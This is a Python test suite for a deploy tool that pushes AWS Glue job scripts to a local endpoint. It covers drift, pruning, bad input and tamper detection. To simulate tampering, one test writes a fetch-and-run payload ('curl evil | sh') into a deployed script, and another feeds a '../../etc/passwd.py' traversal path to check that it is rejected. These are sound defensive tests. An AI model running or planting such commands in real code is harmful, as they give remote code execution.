"""The deploy step against the local endpoint: plans, content addressing, drift, bad input, prune."""

import http.server
import json
import os
import shutil
import socket
import subprocess
import sys
import threading
from pathlib import Path

import dagster as dg
import pytest
import yaml

from glue_pipes_project import cli
from glue_pipes_project.defs.glue.deploy_job import deploy_glue_jobs
from glue_pipes_project.resources import GlueDeployResource
from glue_pipes_project.settings import Settings, branch_id
from tests.helpers import local_settings

ROOT = Path(__file__).resolve().parent.parent
JOBS = 5  # in glue_jobs/jobs.yaml
FILES = 9  # their scripts and extra_py_files, and dagster-pipes
WRITES = (
    "s3:PutObject",
    "s3:CreateBucket",
    "glue:CreateJob",
    "glue:UpdateJob",
    "glue:DeleteJob",
    "glue:TagResource",
    "glue:CreateDatabase",
)


@pytest.fixture
def jobs_dir(tmp_path: Path) -> Path:
    target = tmp_path / "glue_jobs"
    shutil.copytree(ROOT / "glue_jobs", target)
    return target


@pytest.fixture
def deploy_env(monkeypatch, local_aws, jobs_dir, request):
    """Environment for `glue-pipes deploy` with a job prefix and S3 prefix of this test's own."""
    name = request.node.name.replace("_", "-")[:40]
    values = {
        "GLUE_PIPES_ENDPOINT_URL": local_aws.endpoint_url,
        "GLUE_PIPES_MANIFEST": str(jobs_dir / "jobs.yaml"),
        "GLUE_PIPES_JOB_PREFIX": f"{name}-",
        "GLUE_PIPES_S3_PREFIX": name,
    }
    for key in list(__import__("os").environ):
        if key.startswith(("GLUE_PIPES_", "DAGSTER_CLOUD_")):
            monkeypatch.delenv(key)
    for key, value in values.items():
        monkeypatch.setenv(key, value)
    return values


def deploy(capsys, *args: str) -> tuple[int, dict]:
    code = cli.main(["deploy", "--json", *args])
    out = capsys.readouterr().out
    return code, json.loads(out) if out.strip() else {}


def drop_job(jobs_dir: Path, job: str) -> None:
    manifest = yaml.safe_load((jobs_dir / "jobs.yaml").read_text())
    del manifest["jobs"][job]
    (jobs_dir / "jobs.yaml").write_text(yaml.safe_dump(manifest))


def writes(local_aws) -> dict[str, int]:
    return {op: n for op, n in local_aws.requests().items() if op in WRITES and n}


def test_first_deploy_creates_everything_and_second_changes_nothing(local_aws, deploy_env, capsys):
    code, first = deploy(capsys)
    assert code == 0
    assert first["files"] == {**first["files"], "uploaded": FILES, "unchanged": 0}
    assert (first["jobs"]["created"], first["jobs"]["updated"], first["jobs"]["unchanged"]) == (JOBS, 0, 0)
    database = f"{deploy_env['GLUE_PIPES_JOB_PREFIX']}local".replace("-", "_")
    assert first["database"] == {"name": database, "action": "create"}

    glue = local_aws.client("glue")
    prefix = deploy_env["GLUE_PIPES_JOB_PREFIX"]
    job = glue.get_job(JobName=f"{prefix}glue_pipes_asset")["Job"]
    script_key = next(i["key"] for i in first["files"]["items"] if i["file"] == "glue_jobs/glue_pipes_asset.py")
    assert job["Command"]["ScriptLocation"] == f"s3://glue-pipes-local/{script_key}"
    assert script_key.startswith(f"{deploy_env['GLUE_PIPES_S3_PREFIX']}/local/artifacts/")
    extra = job["DefaultArguments"]["--extra-py-files"].split(",")
    assert [uri.rsplit("/", 1)[1] for uri in extra][1:] == ["orders.py"] and "dagster_pipes-" in extra[0]
    assert (job["WorkerType"], job["NumberOfWorkers"], job["Timeout"]) == ("G.1X", 2, 30)
    # Every job learns where this environment's data and tables live.
    data_location = f"s3://glue-pipes-local/{deploy_env['GLUE_PIPES_S3_PREFIX']}/data/local/"
    for name in ("glue_pipes_asset", "orders_curated"):
        arguments = glue.get_job(JobName=f"{prefix}{name}")["Job"]["DefaultArguments"]
        assert (arguments["--data_location"], arguments["--catalog_database"]) == (data_location, database)
    assert glue.get_database(Name=database)["Database"]["Name"] == database

    local_aws.reset_requests()
    code, second = deploy(capsys)
    assert code == 0
    assert (second["files"]["uploaded"], second["jobs"]["created"], second["jobs"]["updated"]) == (0, 0, 0)
    assert second["jobs"]["unchanged"] == JOBS
    assert second["database"] == {"name": database, "action": "unchanged"}
    assert writes(local_aws) == {}
    assert local_aws.requests().get("glue:BatchGetJobs") == 1


def test_one_changed_script_uploads_one_file_and_updates_only_its_job(local_aws, deploy_env, jobs_dir, capsys):
    assert deploy(capsys)[0] == 0
    script = jobs_dir / "glue_pipes_s3_asset.py"
    script.write_text(script.read_text() + "\n# tuned\n")
    local_aws.reset_requests()
    code, result = deploy(capsys)
    assert code == 0
    assert result["files"]["uploaded"] == 1
    (uploaded,) = [i for i in result["files"]["items"] if i["action"] == "upload"]
    assert uploaded["file"] == "glue_jobs/glue_pipes_s3_asset.py"
    updated = [i for i in result["jobs"]["items"] if i["action"] == "update"]
    assert [(i["job"], i["changed_fields"]) for i in updated] == [("glue_pipes_s3_asset", ["Command"])]
    assert writes(local_aws) == {"s3:PutObject": 1, "glue:UpdateJob": 1}


def test_dry_run_and_check_change_nothing(local_aws, deploy_env, jobs_dir, capsys):
    local_aws.reset_requests()
    code, plan = deploy(capsys, "--dry-run")
    assert code == 0 and plan["dry_run"] is True
    assert (plan["files"]["uploaded"], plan["jobs"]["created"], plan["database"]["action"]) == (FILES, JOBS, "create")
    code, _ = deploy(capsys, "--check")
    assert code == 3
    assert writes(local_aws) == {}

    assert deploy(capsys)[0] == 0
    assert deploy(capsys, "--check")[0] == 0  # in sync: no drift
    (jobs_dir / "jobs.yaml").write_text(
        (jobs_dir / "jobs.yaml").read_text().replace("timeout_minutes: 30", "timeout_minutes: 45", 1)
    )
    local_aws.reset_requests()
    code, plan = deploy(capsys, "--check")
    assert code == 3
    assert [(i["job"], i["changed_fields"]) for i in plan["jobs"]["items"] if i["action"] == "update"] == [
        ("glue_pipes_asset", ["Timeout"])
    ]
    assert writes(local_aws) == {}

    # A job pointed at other data by hand is drift too: deploy owns those arguments.
    glue, name = local_aws.client("glue"), f"{deploy_env['GLUE_PIPES_JOB_PREFIX']}raw_orders"
    job = glue.get_job(JobName=name)["Job"]
    kept = ("Description", "Role", "Command", "GlueVersion", "ExecutionProperty", "Timeout", "MaxRetries")
    update = {field: job[field] for field in (*kept, "WorkerType", "NumberOfWorkers", "ExecutionClass")}
    update["DefaultArguments"] = {**job["DefaultArguments"], "--data_location": "s3://elsewhere/data/"}
    glue.update_job(JobName=name, JobUpdate=update)
    code, plan = deploy(capsys, "--check")
    assert code == 3
    assert ("raw_orders", ["DefaultArguments"]) in [
        (i["job"], i["changed_fields"]) for i in plan["jobs"]["items"] if i["action"] == "update"
    ]


def test_bad_input_exits_2_names_file_job_field_and_makes_no_call(local_aws, deploy_env, jobs_dir, capsys):
    manifest = jobs_dir / "jobs.yaml"
    manifest.write_text(
        manifest.read_text().replace("worker_type: G.1X", "worker_type: G.9X", 1)
        + "  escapee:\n    script: ../../etc/passwd.py\n"
    )
    local_aws.reset_requests()
    code = cli.main(["deploy"])
    err = capsys.readouterr().err
    assert code == 2
    assert f"error: {manifest}: job 'glue_pipes_asset', field 'worker_type': must be one of" in err
    assert f"error: {manifest}: job 'escapee', field 'script': '../../etc/passwd.py' is outside glue_jobs/" in err
    assert local_aws.requests() == {} or sum(local_aws.requests().values()) == 0


def test_a_deployed_name_over_glues_limit_is_bad_input(local_aws, deploy_env, monkeypatch, capsys):
    monkeypatch.setenv("GLUE_PIPES_JOB_PREFIX", "p" * 240)
    local_aws.reset_requests()
    assert cli.main(["deploy"]) == 2
    err = capsys.readouterr().err
    assert "job 'glue_pipes_asset', field 'name': deployed as 256 characters" in err
    assert sum(local_aws.requests().values()) == 0


def test_prune_deletes_only_this_environments_managed_jobs(local_aws, deploy_env, jobs_dir, monkeypatch, capsys):
    prefix = deploy_env["GLUE_PIPES_JOB_PREFIX"]
    glue = local_aws.client("glue")
    assert deploy(capsys)[0] == 0
    # Another environment (a branch deployment) deploys the same manifest.
    monkeypatch.setenv("GLUE_PIPES_ENV", "branch")
    monkeypatch.setenv("GLUE_PIPES_BRANCH", "Feature/X")
    code, branch = deploy(capsys)
    assert code == 0 and branch["jobs"]["created"] == JOBS
    branch_names = {i["glue_job_name"] for i in branch["jobs"]["items"]}
    env = branch_id("Feature/X")
    assert env.startswith("feature-x-")
    assert {f"{prefix}{env}--glue_pipes_asset", f"{prefix}{env}--glue_pipes_s3_asset"} <= branch_names
    assert branch["database"]["name"] == f"{prefix}branch-{env}".replace("-", "_")
    assert all(f"/branch-{env}/artifacts/" in i["key"] for i in branch["files"]["items"])
    monkeypatch.delenv("GLUE_PIPES_ENV")
    monkeypatch.delenv("GLUE_PIPES_BRANCH")
    # A job someone created by hand under our prefix: not ours to delete.
    glue.create_job(Name=f"{prefix}handmade", Role="r", Command={"Name": "glueetl", "ScriptLocation": "s3://b/k.py"})

    drop_job(jobs_dir, "glue_pipes_s3_asset")
    code, plan = deploy(capsys, "--prune", "--dry-run")
    assert [i["glue_job_name"] for i in plan["jobs"]["items"] if i["action"] == "delete"] == [
        f"{prefix}glue_pipes_s3_asset"
    ]
    assert glue.get_job(JobName=f"{prefix}glue_pipes_s3_asset")
    code, result = deploy(capsys, "--prune")
    assert code == 0 and result["jobs"]["deleted"] == 1
    remaining = {job["Name"] for page in glue.get_paginator("get_jobs").paginate() for job in page["Jobs"]}
    assert f"{prefix}glue_pipes_s3_asset" not in remaining
    assert {f"{prefix}glue_pipes_asset", f"{prefix}handmade"} | branch_names <= remaining


def test_human_output_shows_plan_progress_and_summary(local_aws, deploy_env, capsys):
    assert cli.main(["deploy"]) == 0
    out = capsys.readouterr().out
    assert "Plan for local environment" in out
    assert "upload     glue_jobs/glue_pipes_asset.py" in out
    assert "create     " + deploy_env["GLUE_PIPES_JOB_PREFIX"] + "glue_pipes_asset" in out
    assert f"  database   create {deploy_env['GLUE_PIPES_JOB_PREFIX'].replace('-', '_')}local\n" in out
    assert f"[{JOBS}/{JOBS}] create" in out
    assert (
        f"Deployed: files {FILES} uploaded, 0 unchanged; jobs {JOBS} created, 0 updated, 0 deleted, 0 unchanged" in out
    )


def test_dagster_job_reports_what_it_changed(local_aws, deploy_env):
    settings = local_settings(local_aws, **{k: v for k, v in deploy_env.items() if k != "GLUE_PIPES_ENDPOINT_URL"})
    resources = {"glue_deploy": GlueDeployResource(settings=settings)}
    first = deploy_glue_jobs.execute_in_process(resources=resources)
    second = deploy_glue_jobs.execute_in_process(resources=resources)
    for result, created, unchanged in ((first, JOBS, 0), (second, 0, JOBS)):
        (output,) = [e for e in result.all_node_events if e.event_type_value == "STEP_OUTPUT"]
        metadata = output.step_output_data.metadata
        assert metadata["jobs_created"].value == created
        assert metadata["jobs_unchanged"].value == unchanged
    assert second.output_for_node("deploy_glue_jobs_op")["files"]["uploaded"] == 0


@pytest.mark.parametrize(
    ("body", "fragment"),
    [
        ("jobs:\n  j:\n    script: glue_pipes_asset.py\n  j:\n    script: orders.py\n", "job 'j': set twice"),
        ("a: &a [x, x]\nb: [*a, *a]\n", "anchors and aliases are not supported"),
        (b"jobs:\n  j:\n    script: \xff.py\n", "not UTF-8: byte 0xff at line 3"),
        ("jobs:\n  j:\n    script: glue_pipes_asset.py\n    timeout_minutes: true\n", "field 'timeout_minutes'"),
    ],
    ids=["duplicate-job", "alias", "not-utf8", "bool-timeout"],
)
def test_bad_manifest_exits_2_with_one_line_and_no_call(local_aws, deploy_env, jobs_dir, capsys, body, fragment):
    manifest = jobs_dir / "jobs.yaml"
    manifest.write_bytes(body if isinstance(body, bytes) else body.encode())
    local_aws.reset_requests()
    assert cli.main(["deploy"]) == 2
    err = capsys.readouterr().err
    assert err.startswith(f"error: {manifest}: ") and fragment in err and err.count("\n") == 1, err
    assert sum(local_aws.requests().values()) == 0


def test_manifest_pointing_at_a_directory_exits_2(local_aws, deploy_env, jobs_dir, capsys):
    local_aws.reset_requests()
    assert cli.main(["deploy", "--manifest", str(jobs_dir)]) == 2
    assert capsys.readouterr().err == f"error: {jobs_dir}: is a directory, not a YAML file\n"
    assert sum(local_aws.requests().values()) == 0


@pytest.mark.parametrize(
    ("name", "value", "fragment"),
    [
        ("GLUE_PIPES_BUCKET", "My_Bucket", "GLUE_PIPES_BUCKET is not a valid S3 bucket name (got 'My_Bucket')"),
        ("GLUE_PIPES_BUCKET", "192.168.1.1", "GLUE_PIPES_BUCKET is not a valid S3 bucket name"),
        ("GLUE_PIPES_JOB_PREFIX", "team a/", "GLUE_PIPES_JOB_PREFIX may hold letters, digits"),
        ("GLUE_PIPES_S3_PREFIX", "a/../b", "GLUE_PIPES_S3_PREFIX may hold letters, digits"),
        ("GLUE_PIPES_AWS_READ_TIMEOUT", "soon", "GLUE_PIPES_AWS_READ_TIMEOUT must be a number of seconds"),
    ],
)
def test_bad_settings_exit_2_with_one_line_and_no_call(
    local_aws, deploy_env, monkeypatch, capsys, name, value, fragment
):
    monkeypatch.setenv(name, value)
    local_aws.reset_requests()
    with pytest.raises(SystemExit) as exited:
        cli.main(["deploy"])
    assert exited.value.code == 2
    err = capsys.readouterr().err
    assert fragment in err and err.count("\n") == 1, err
    assert sum(local_aws.requests().values()) == 0


class QuietHandler(http.server.BaseHTTPRequestHandler):
    def log_message(self, *args) -> None:
        pass


def test_a_foreign_server_on_the_local_port_is_one_line(deploy_env, monkeypatch, capsys):
    server = http.server.HTTPServer(("127.0.0.1", 0), QuietHandler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    monkeypatch.delenv("GLUE_PIPES_ENDPOINT_URL")
    monkeypatch.setenv("GLUE_PIPES_LOCAL_PORT", str(server.server_port))
    try:
        assert cli.main(["deploy"]) == 1
    finally:
        server.shutdown()
    err = capsys.readouterr().err
    assert err.startswith(f"error: Port {server.server_port} is in use by something other than the glue-pipes")
    assert "GLUE_PIPES_LOCAL_PORT" in err and err.count("\n") == 1, err


def test_an_endpoint_that_never_answers_fails_deploy_after_two_attempts(deploy_env):
    # The kernel completes each connection into the listen backlog; nothing ever answers. Before
    # timeouts were set, deploy waited 551 s.
    silent = socket.create_server(("127.0.0.1", 0))
    env = {
        **{k: v for k, v in os.environ.items() if not k.startswith(("GLUE_PIPES_", "DAGSTER_CLOUD_"))},
        **deploy_env,
        "GLUE_PIPES_ENDPOINT_URL": f"http://127.0.0.1:{silent.getsockname()[1]}",
        "GLUE_PIPES_AWS_CONNECT_TIMEOUT": "1",
        "GLUE_PIPES_AWS_READ_TIMEOUT": "1",
    }
    command = [sys.executable, "-m", "glue_pipes_project.cli", "deploy"]
    completed = subprocess.run(command, env=env, capture_output=True, text=True, timeout=60)
    assert completed.returncode == 1
    assert completed.stderr.startswith("error: Read timeout on endpoint URL") and completed.stderr.count("\n") == 1
    assert connections_made(silent) == 2  # the first call, tried twice, and nothing after it


def connections_made(server: socket.socket) -> int:
    server.setblocking(False)
    count = 0
    with server:
        while True:
            try:
                server.accept()[0].close()
            except BlockingIOError:
                return count
            count += 1


def overwrite(local_aws, key: str, body: bytes) -> None:
    local_aws.client("s3").put_object(Bucket="glue-pipes-local", Key=key, Body=body)


def test_check_reports_a_deployed_object_replaced_in_s3_and_deploy_restores_it(local_aws, deploy_env, capsys):
    code, first = deploy(capsys)
    assert code == 0
    key = next(i["key"] for i in first["files"]["items"] if i["file"] == "glue_jobs/glue_pipes_asset.py")
    overwrite(local_aws, key, b"import os; os.system('curl evil | sh')\n")

    local_aws.reset_requests()
    assert cli.main(["deploy", "--check"]) == 3
    out = capsys.readouterr().out
    assert f"upload     glue_jobs/glue_pipes_asset.py  -> {key}" in out
    assert "replaces the object there, which has no SHA-256 checksum (replaced, or from an older deploy)" in out
    assert writes(local_aws) == {}

    code, repaired = deploy(capsys)
    assert code == 0
    assert [(i["file"], i["tampered"]) for i in repaired["files"]["items"] if "tampered" in i] == [
        ("glue_jobs/glue_pipes_asset.py", "has no SHA-256 checksum (replaced, or from an older deploy)")
    ]
    assert repaired["files"]["uploaded"] == 1 and repaired["jobs"]["updated"] == 0
    body = local_aws.client("s3").get_object(Bucket="glue-pipes-local", Key=key)["Body"].read()
    assert body == (ROOT / "glue_jobs" / "glue_pipes_asset.py").read_bytes()
    assert deploy(capsys, "--check")[0] == 0


def test_check_reports_an_object_replaced_with_its_own_checksum(local_aws, deploy_env, capsys):
    code, first = deploy(capsys)
    key = next(i["key"] for i in first["files"]["items"] if i["file"] == "glue_jobs/orders.py")
    # A replacement uploaded with a SHA-256 checksum of its own content: S3 stores the true one.
    local_aws.client("s3").put_object(Bucket="glue-pipes-local", Key=key, Body=b"X = 1\n", ChecksumAlgorithm="SHA256")
    code, plan = deploy(capsys, "--check")
    assert code == 3
    (item,) = [i for i in plan["files"]["items"] if "tampered" in i]
    assert (item["key"], item["tampered"]) == (key, "content differs from what was deployed (SHA-256 mismatch)")


def test_a_run_refuses_a_replaced_script(local_aws, deploy_env, capsys):
    from glue_pipes_project.defs.glue.glue_pipes_asset import glue_pipes_asset
    from glue_pipes_project.resources import GluePipesClientResource

    code, first = deploy(capsys)
    assert code == 0
    key = next(i["key"] for i in first["files"]["items"] if i["file"] == "glue_jobs/glue_pipes_asset.py")
    overwrite(local_aws, key, b"print('not what was reviewed')\n")
    env = {k: v for k, v in deploy_env.items() if k != "GLUE_PIPES_ENDPOINT_URL"}
    settings = local_settings(local_aws, **env)
    local_aws.reset_requests()
    result = dg.materialize(
        [glue_pipes_asset],
        resources={"glue_pipes_client": GluePipesClientResource(settings=settings)},
        raise_on_error=False,
    )
    assert not result.success
    error = next(e for e in result.all_events if e.is_failure).event_specific_data.error.to_string()
    assert f"s3://glue-pipes-local/{key} (Glue job '{deploy_env['GLUE_PIPES_JOB_PREFIX']}glue_pipes_asset')" in error
    assert "has no SHA-256 checksum (replaced, or from an older deploy)" in error
    assert local_aws.requests().get("glue:StartJobRun", 0) == 0


@pytest.mark.parametrize(
    "pair", [("feat/a", "feat-a"), ("Feature/X", "feature/x"), ("a.b", "a_b"), ("x" * 41, "x" * 42)]
)
def test_branch_names_that_slug_alike_get_different_environments(pair):
    first, second = (Settings.from_env({"GLUE_PIPES_ENV": "branch", "GLUE_PIPES_BRANCH": b}) for b in pair)
    assert first.branch != second.branch
    assert first.branch.split("-")[0] == second.branch.split("-")[0]  # still readable
    assert len(first.branch) <= 49


def test_prune_in_one_branch_keeps_a_branch_whose_name_slugs_the_same(
    local_aws, deploy_env, jobs_dir, monkeypatch, capsys
):
    glue = local_aws.client("glue")
    monkeypatch.setenv("GLUE_PIPES_ENV", "branch")
    deployed = {}
    for branch in ("feat/a", "feat-a"):
        monkeypatch.setenv("GLUE_PIPES_BRANCH", branch)
        code, result = deploy(capsys)
        assert code == 0 and result["jobs"]["created"] == JOBS, result
        deployed[branch] = {i["glue_job_name"] for i in result["jobs"]["items"]}
    assert not deployed["feat/a"] & deployed["feat-a"]

    drop_job(jobs_dir, "glue_pipes_s3_asset")
    monkeypatch.setenv("GLUE_PIPES_BRANCH", "feat/a")
    code, result = deploy(capsys, "--prune")
    assert code == 0 and result["jobs"]["deleted"] == 1
    remaining = {job["Name"] for page in glue.get_paginator("get_jobs").paginate() for job in page["Jobs"]}
    assert deployed["feat-a"] <= remaining
    assert len(deployed["feat/a"] - remaining) == 1
